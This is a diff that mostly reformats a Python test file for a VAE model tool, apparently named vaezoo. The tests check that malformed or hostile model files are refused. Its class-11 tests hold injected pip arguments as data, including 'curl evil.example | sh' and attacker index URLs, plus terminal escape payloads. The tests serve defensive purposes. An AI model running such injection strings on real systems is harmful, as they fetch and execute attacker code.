@@ -15,10 +15,10 @@ import time
 from pathlib import Path
 
 import pytest
-
-import vaezoo
 from conftest import run_cli
 from test_hostile import Raw, _set, one_line, rewrite, small_model  # noqa: F401 (small_model is a fixture)
+
+import vaezoo
 from vaezoo.errors import CheckpointError, VaezooError
 
 # `vaezoo ARGS` that writes its peak resident memory (KiB) to $PEAK_FILE however it ends (VmHWM: unlike
@@ -39,7 +39,13 @@ def run_measured(tmp_path: Path, *args: str, timeout: float = 120) -> tuple[subp
     """`vaezoo ARGS` in a fresh process: the completed process, its peak memory in MiB and its seconds."""
     peak = tmp_path / "peak.txt"
     start = time.monotonic()
-    result = subprocess.run([sys.executable, "-c", MEASURED, *args], capture_output=True, text=True, timeout=timeout, env={**os.environ, "PEAK_FILE": str(peak)})
+    result = subprocess.run(
+        [sys.executable, "-c", MEASURED, *args],
+        capture_output=True,
+        text=True,
+        timeout=timeout,
+        env={**os.environ, "PEAK_FILE": str(peak)},
+    )
     return result, int(peak.read_text()) // 1024, time.monotonic() - start
 
 
@@ -85,7 +91,9 @@ def test_sample_refuses_a_symlink_and_the_file_it_points_at_is_unchanged(small_m
 
 @pytest.mark.skipif(os.geteuid() != 0, reason="replacing /dev/null needs root")
 def test_sample_as_root_never_replaces_dev_null(small_model: Path) -> None:
-    line = one_line(run_cli("sample", str(small_model), "-n", "4", "--out", "/dev/null", "--device", "cpu", timeout=120))
+    line = one_line(
+        run_cli("sample", str(small_model), "-n", "4", "--out", "/dev/null", "--device", "cpu", timeout=120)
+    )
     assert "/dev/null" in line and "character device" in line
     assert stat.S_ISCHR(os.lstat("/dev/null").st_mode)
 
@@ -113,10 +121,19 @@ def test_every_writer_refuses_what_is_not_a_regular_file(tmp_path: Path) -> None
     (tmp_path / "dangling").symlink_to(tmp_path / "nowhere")
     os.mkfifo(tmp_path / "fifo")
     (tmp_path / "folder").mkdir()
-    for name, kind in (("link", "symbolic link"), ("dangling", "symbolic link"), ("fifo", "FIFO"), ("folder", "folder")):
+    for name, kind in (
+        ("link", "symbolic link"),
+        ("dangling", "symbolic link"),
+        ("fifo", "FIFO"),
+        ("folder", "folder"),
+    ):
         target = tmp_path / name
-        for write in (lambda: write_bytes_atomic(target, b"x"), lambda: write_text_atomic(target, "x"), lambda: save_grid(torch.zeros(1, 3, 4, 4), target),
-                      lambda: save_loss_plot([{"epoch": 1, "train_loss": 1.0, "test_loss": 1.0}], target)):
+        for write in (
+            lambda: write_bytes_atomic(target, b"x"),
+            lambda: write_text_atomic(target, "x"),
+            lambda: save_grid(torch.zeros(1, 3, 4, 4), target),
+            lambda: save_loss_plot([{"epoch": 1, "train_loss": 1.0, "test_loss": 1.0}], target),
+        ):
             with pytest.raises(VaezooError, match=kind) as refused:
                 write()
             assert str(target) in str(refused.value) and "\n" not in str(refused.value)
@@ -137,7 +154,11 @@ def test_a_header_length_is_never_printed(tmp_path: Path) -> None:
     link = tmp_path / "model.safetensors"
     link.symlink_to(secret)
     leaked = str(int.from_bytes(secret.read_bytes()[:8], "little"))
-    for command in (["inspect", str(link)], ["card", str(link)], ["sample", str(link), "--out", str(tmp_path / "s.png")]):
+    for command in (
+        ["inspect", str(link)],
+        ["card", str(link)],
+        ["sample", str(link), "--out", str(tmp_path / "s.png")],
+    ):
         line = one_line(run_cli(*command))
         assert "header length out of range" in line and leaked not in line, line
     big = tmp_path / "big.safetensors"  # a length that fits in the file but is over the 100 MB bound
@@ -153,7 +174,10 @@ def test_a_header_length_is_never_printed(tmp_path: Path) -> None:
 HEADERS = {
     "a shape of a list and a float": (lambda h: first_tensor(h).update(shape=[[0], 4e8]), "has shape"),
     "huge dimensions": (lambda h: first_tensor(h).update(shape=[0, 10**15]), "has shape"),
-    "dimensions that do not match the bytes": (lambda h: first_tensor(h).update(shape=[400_000, 400_000]), "does not match its data_offsets"),
+    "dimensions that do not match the bytes": (
+        lambda h: first_tensor(h).update(shape=[400_000, 400_000]),
+        "does not match its data_offsets",
+    ),
     "too many dimensions": (lambda h: first_tensor(h).update(shape=[1] * 9), "has shape"),
     "negative dimension": (lambda h: first_tensor(h).update(shape=[-1, 128]), "has shape"),
     "unknown dtype": (lambda h: first_tensor(h).update(dtype="F128"), "has dtype"),
@@ -163,7 +187,10 @@ HEADERS = {
     "tensor entry not an object": (lambda h: h.update(weird=[1, 2]), "is not an object"),
     "metadata not strings": (lambda h: h["__metadata__"].update({"vaezoo.version": 2}), "__metadata__"),
     "deep header": (lambda h: b'{"a": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", "not JSON"),
-    "5000-digit offset": (lambda h: json.dumps(h).replace('"data_offsets": [0,', '"data_offsets": [' + "9" * 5000 + ",", 1).encode(), "not JSON"),
+    "5000-digit offset": (
+        lambda h: json.dumps(h).replace('"data_offsets": [0,', '"data_offsets": [' + "9" * 5000 + ",", 1).encode(),
+        "not JSON",
+    ),
 }
 
 
@@ -186,7 +213,11 @@ def test_a_huge_sparse_file_is_never_read_whole(small_model: Path, tmp_path: Pat
     padded = tmp_path / "padded.safetensors"
     padded.write_bytes(small_model.read_bytes())
     os.truncate(padded, padded.stat().st_size + 3 * 2**30)
-    for command in (["inspect", str(padded)], ["card", str(padded)], ["sample", str(padded), "--out", str(tmp_path / "s.png")]):
+    for command in (
+        ["inspect", str(padded)],
+        ["card", str(padded)],
+        ["sample", str(padded), "--out", str(tmp_path / "s.png")],
+    ):
         result, peak, seconds = run_measured(tmp_path, *command)
         assert "bytes follow the tensors" in one_line(result)
         assert peak < 1000 and seconds < 30, (command, peak, seconds)
@@ -214,9 +245,25 @@ def test_image_shapes_a_file_may_claim_are_bounded(small_model: Path, tmp_path: 
 @pytest.fixture(scope="module")
 def small_vqvae(cifar: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
     out = tmp_path_factory.mktemp("vqvae") / "run"
-    sets = ["model.hidden=8", "model.res_blocks=1", "model.codebook_size=8", "latent_dim=4", "model.prior_channels=4", "model.prior_layers=1",
-            "train.batch_size=16", "train.sample_count=4", "train.eval_batch_size=64"]
-    vaezoo.fit("cifar-vqvae", sets=sets, options={"train.limit": 32, "train.test_limit": 16, "train.epochs": 1}, out=out, data_dir=cifar, device="cpu")
+    sets = [
+        "model.hidden=8",
+        "model.res_blocks=1",
+        "model.codebook_size=8",
+        "latent_dim=4",
+        "model.prior_channels=4",
+        "model.prior_layers=1",
+        "train.batch_size=16",
+        "train.sample_count=4",
+        "train.eval_batch_size=64",
+    ]
+    vaezoo.fit(
+        "cifar-vqvae",
+        sets=sets,
+        options={"train.limit": 32, "train.test_limit": 16, "train.epochs": 1},
+        out=out,
+        data_dir=cifar,
+        device="cpu",
+    )
     return out / "model.safetensors"
 
 
@@ -233,7 +280,9 @@ VQVAE_CHANGES = {
 def test_a_vqvae_file_cannot_make_sampling_loop_for_minutes(small_vqvae: Path, tmp_path: Path, case: str) -> None:
     change, expected = VQVAE_CHANGES[case]
     bad = rewrite(small_vqvae, tmp_path / "bad.safetensors", change)
-    result, peak, seconds = run_measured(tmp_path, "sample", str(bad), "-n", "1", "--out", str(tmp_path / "s.png"), "--device", "cpu")
+    result, peak, seconds = run_measured(
+        tmp_path, "sample", str(bad), "-n", "1", "--out", str(tmp_path / "s.png"), "--device", "cpu"
+    )
     line = one_line(result)
     assert str(bad) in line and expected in line, line
     assert seconds < 60 and peak < 2000, (seconds, peak)
@@ -241,11 +290,21 @@ def test_a_vqvae_file_cannot_make_sampling_loop_for_minutes(small_vqvae: Path, t
 
 
 def test_a_resnet_file_with_400000_blocks_is_refused_before_building(small_model: Path, tmp_path: Path) -> None:
-    bad = rewrite(small_model, tmp_path / "bad.safetensors", _set(["vaezoo.recipe", "encoder"], {"name": "resnet", "hidden": [4, 8, 8], "blocks": 400_000}))
-    result, peak, seconds = run_measured(tmp_path, "sample", str(bad), "-n", "1", "--out", str(tmp_path / "s.png"), "--device", "cpu")
+    bad = rewrite(
+        small_model,
+        tmp_path / "bad.safetensors",
+        _set(["vaezoo.recipe", "encoder"], {"name": "resnet", "hidden": [4, 8, 8], "blocks": 400_000}),
+    )
+    result, peak, seconds = run_measured(
+        tmp_path, "sample", str(bad), "-n", "1", "--out", str(tmp_path / "s.png"), "--device", "cpu"
+    )
     assert "blocks from 0 to 64" in one_line(result) and seconds < 60
-    long = rewrite(small_model, tmp_path / "long.safetensors", _set(["vaezoo.recipe", "encoder", "hidden"], [4] * 400_000))
-    assert "hidden: a list of at most 64" in one_line(run_cli("sample", str(long), "-n", "1", "--out", str(tmp_path / "s.png")))
+    long = rewrite(
+        small_model, tmp_path / "long.safetensors", _set(["vaezoo.recipe", "encoder", "hidden"], [4] * 400_000)
+    )
+    assert "hidden: a list of at most 64" in one_line(
+        run_cli("sample", str(long), "-n", "1", "--out", str(tmp_path / "s.png"))
+    )
 
 
 def test_default_plugins_bound_their_constructor_arguments() -> None:
@@ -284,7 +343,14 @@ def test_a_file_cannot_make_eval_decode_images_at_3072_pixels(small_model: Path,
 
     for i in range(4):
         Image.new("RGB", (32, 32), (60 * i, 0, 0)).save(folder / f"{i}.png")
-    bad = rewrite(small_model, tmp_path / "bad.safetensors", _set(["vaezoo.recipe", "dataset"], {"name": "image-folder", "size": 3072, "grayscale": False, "test_fraction": 0.5}))
+    bad = rewrite(
+        small_model,
+        tmp_path / "bad.safetensors",
+        _set(
+            ["vaezoo.recipe", "dataset"],
+            {"name": "image-folder", "size": 3072, "grayscale": False, "test_fraction": 0.5},
+        ),
+    )
     result, peak, seconds = run_measured(tmp_path, "eval", str(bad), "--data-dir", str(folder), "--json")
     assert "size from 1 to 1024" in one_line(result) and seconds < 60
 
@@ -297,7 +363,10 @@ METADATA = {
     "metrics a string": (_set(["vaezoo.training", "metrics"], "great"), "vaezoo.training"),
     "epochs a string": (_set(["vaezoo.training", "epochs"], "many"), "vaezoo.training.epochs"),
     "components of strings": (_set(["vaezoo.components"], ["vae", "conv"]), "vaezoo.components[0]"),
-    "component without a distribution": (lambda m: m["vaezoo.components"][1].pop("distribution"), "vaezoo.components[1]"),
+    "component without a distribution": (
+        lambda m: m["vaezoo.components"][1].pop("distribution"),
+        "vaezoo.components[1]",
+    ),
     "component version a number": (lambda m: m["vaezoo.components"][2].update(version=2.0), "vaezoo.components[2]"),
     "model table a list": (_set(["vaezoo.recipe", "model"], ["vae"]), "vaezoo.recipe.model"),
     "summary a number": (_set(["vaezoo.recipe", "summary"], 5), "vaezoo.recipe.summary"),
@@ -305,10 +374,19 @@ METADATA = {
     "format true": (_set(["vaezoo.format_version"], True), "format"),
     "5000-digit latent_dim": (_set(["vaezoo.recipe"], Raw('{"latent_dim": ' + "9" * 5000 + "}")), "vaezoo.recipe"),
     "deep training": (_set(["vaezoo.training"], Raw("[" * 100_000 + "]" * 100_000)), "vaezoo.training"),
-    "escape in the summary": (_set(["vaezoo.recipe", "summary"], "nice\x1b]0;pwned\x07\x1b[2J"), "vaezoo.recipe.summary holds a control character"),
-    "carriage return in a class": (lambda m: m["vaezoo.data"]["classes"].__setitem__(3, "cat\rdog"), "vaezoo.data.classes[3] holds a control character"),
+    "escape in the summary": (
+        _set(["vaezoo.recipe", "summary"], "nice\x1b]0;pwned\x07\x1b[2J"),
+        "vaezoo.recipe.summary holds a control character",
+    ),
+    "carriage return in a class": (
+        lambda m: m["vaezoo.data"]["classes"].__setitem__(3, "cat\rdog"),
+        "vaezoo.data.classes[3] holds a control character",
+    ),
     "escape in a metric's name": (_set(["vaezoo.training", "metrics", "x\x1b[31m"], 1.0), "a control character"),
-    "C1 control in a key": (_set(["vaezoo.recipe", "train", "\x9bx"], 1), "vaezoo.recipe.train.<a key> holds a control character"),
+    "C1 control in a key": (
+        _set(["vaezoo.recipe", "train", "\x9bx"], 1),
+        "vaezoo.recipe.train.<a key> holds a control character",
+    ),
 }
 
 
@@ -316,8 +394,13 @@ METADATA = {
 def test_metadata_of_the_wrong_type_is_one_line_for_every_reader(small_model: Path, tmp_path: Path, case: str) -> None:
     change, expected = METADATA[case]
     bad = rewrite(small_model, tmp_path / "bad.safetensors", change)
-    for command in (["inspect", str(bad)], ["inspect", str(bad), "--json"], ["card", str(bad)], ["push", str(bad), "my-org/x", "--dry-run", str(tmp_path / "up")],
-                    ["sample", str(bad), "--out", str(tmp_path / "s.png")]):
+    for command in (
+        ["inspect", str(bad)],
+        ["inspect", str(bad), "--json"],
+        ["card", str(bad)],
+        ["push", str(bad), "my-org/x", "--dry-run", str(tmp_path / "up")],
+        ["sample", str(bad), "--out", str(tmp_path / "s.png")],
+    ):
         result = run_cli(*command)
         line = one_line(result)
         assert str(bad) in line and expected in line, (command, line)
@@ -336,7 +419,14 @@ def test_the_card_shows_rich_markup_in_metadata_as_plain_text(small_model: Path,
 
 
 def test_inspect_shows_rich_markup_in_metadata_as_plain_text(small_model: Path, tmp_path: Path) -> None:
-    bad = rewrite(small_model, tmp_path / "bad.safetensors", lambda m: (m["vaezoo.recipe"].update(name=MARKUP, summary=MARKUP), m["vaezoo.data"]["classes"].__setitem__(0, MARKUP)))
+    bad = rewrite(
+        small_model,
+        tmp_path / "bad.safetensors",
+        lambda m: (
+            m["vaezoo.recipe"].update(name=MARKUP, summary=MARKUP),
+            m["vaezoo.data"]["classes"].__setitem__(0, MARKUP),
+        ),
+    )
     shown = run_cli("inspect", str(bad))
     assert shown.returncode == 0, shown.stderr[-2000:]
     assert "[/bold]" in shown.stdout and "[link=" in shown.stdout
@@ -345,7 +435,14 @@ def test_inspect_shows_rich_markup_in_metadata_as_plain_text(small_model: Path, 
 # ---- class 11: a file never chooses a pip command ------------------------------------------------
 
 
-EVIL_DISTRIBUTIONS = ["--index-url https://evil.example/simple vaezoo-fancy", "vaezoo-fancy; curl evil.example | sh", "-e git+https://evil.example/x", "unknown", "x" * 200, "fancy\nline"]
+EVIL_DISTRIBUTIONS = [
+    "--index-url https://evil.example/simple vaezoo-fancy",
+    "vaezoo-fancy; curl evil.example | sh",
+    "-e git+https://evil.example/x",
+    "unknown",
+    "x" * 200,
+    "fancy\nline",
+]
 
 
 @pytest.mark.parametrize("distribution", EVIL_DISTRIBUTIONS)
@@ -353,7 +450,9 @@ def test_a_file_never_chooses_the_pip_line(small_model: Path, tmp_path: Path, di
     def change(metadata):
         for record in metadata["vaezoo.components"]:
             if record["kind"] == "encoder":
-                record.update(name="fancy", distribution=distribution, version="1.0 --index-url https://evil.example/simple")
+                record.update(
+                    name="fancy", distribution=distribution, version="1.0 --index-url https://evil.example/simple"
+                )
 
     bad = rewrite(small_model, tmp_path / "bad.safetensors", change)
     line = one_line(run_cli("sample", str(bad), "--out", str(tmp_path / "s.png")))
@@ -365,20 +464,35 @@ def test_a_file_never_chooses_the_pip_line(small_model: Path, tmp_path: Path, di
     assert card.returncode == 0, card.stderr[-2000:]
     installs = [row for row in card.stdout.splitlines() if row.startswith("pip install")]
     assert installs == [f"pip install 'vaezoo[hub]=={vaezoo.__version__}'"]
-    assert "# \"fancy\": its plugin distribution is unknown or its name is not valid" in card.stdout
+    assert '# "fancy": its plugin distribution is unknown or its name is not valid' in card.stdout
 
 
 def test_a_valid_distribution_with_a_hostile_version_is_not_pinned(small_model: Path, tmp_path: Path) -> None:
     from vaezoo.card import install_lines
 
-    lines = install_lines([{"kind": "encoder", "name": "fancy", "plugin": "p", "distribution": "vaezoo-fancy", "version": "1.0' --index-url https://evil.example/simple '"}])
+    lines = install_lines(
+        [
+            {
+                "kind": "encoder",
+                "name": "fancy",
+                "plugin": "p",
+                "distribution": "vaezoo-fancy",
+                "version": "1.0' --index-url https://evil.example/simple '",
+            }
+        ]
+    )
     assert lines == ["pip install 'vaezoo[hub]'", "pip install 'vaezoo-fancy'"]
-    assert install_lines([{"distribution": "vaezoo-fancy", "version": "2.1.0rc1"}])[1] == "pip install 'vaezoo-fancy==2.1.0rc1'"
+    assert (
+        install_lines([{"distribution": "vaezoo-fancy", "version": "2.1.0rc1"}])[1]
+        == "pip install 'vaezoo-fancy==2.1.0rc1'"
+    )
 
     def change(metadata):
         for record in metadata["vaezoo.components"]:
             if record["kind"] == "encoder":
-                record.update(name="fancy", distribution="vaezoo-fancy", version="1.0 --index-url https://evil.example/simple")
+                record.update(
+                    name="fancy", distribution="vaezoo-fancy", version="1.0 --index-url https://evil.example/simple"
+                )
 
     bad = rewrite(small_model, tmp_path / "bad.safetensors", change)
     line = one_line(run_cli("sample", str(bad), "--out", str(tmp_path / "s.png")))
